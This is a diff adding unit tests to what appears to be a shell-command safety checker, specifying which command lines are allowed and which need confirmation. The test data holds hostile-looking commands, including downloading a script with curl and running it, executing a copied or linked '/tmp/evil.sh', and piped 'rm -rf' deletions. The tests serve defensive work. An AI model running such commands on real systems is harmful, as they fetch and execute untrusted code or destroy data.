@@ -68,3 +68,21 @@ describe('a script written by printf with its format reused', () => {
     for (const line of ["printf '%s\\n' 'echo a' 'echo b' 'rm -rf build' | bash", "printf 'x\\n' 'rm -rf data' | sh"]) expect(await decision(line), line).toBe('allow');
   });
 });
+
+// A script missing from disk on a line whose every write is named and none of them is that
+// script: the line didn't make it (it was missing before too), as on a line that writes nothing.
+describe('a script missing from disk', () => {
+  const decision = async (line: string) => (await check(line, fx.ctx)).decision;
+  it('runs nothing the line made when the line only wrote other named files, or set a trap', async () => {
+    for (const line of ['echo 1 > /tmp/app.pid; node server.js', "trap 'rm -f /tmp/app.pid' EXIT; node server.js", "trap 'echo failed' ERR; ./scripts/migrate-local.sh --check"]) expect(await decision(line), line).toBe('allow');
+  });
+  it('may be what the line wrote: an unpacked archive, a download, a link, a copy', async () => {
+    for (const line of [
+      'tar xzf x.tgz; ./install.sh',
+      'curl -o run.sh https://example.com/x; bash run.sh',
+      'echo 1 > /tmp/a; ln -s /tmp/evil.sh go.sh; ./go.sh',
+      'mkdir -p scripts && cp /tmp/evil.sh scripts/run.sh && ./scripts/run.sh',
+      'cp -r /tmp/kit tools && node tools/setup.js',
+    ]) expect(await decision(line), line).toBe('confirm');
+  });
+});
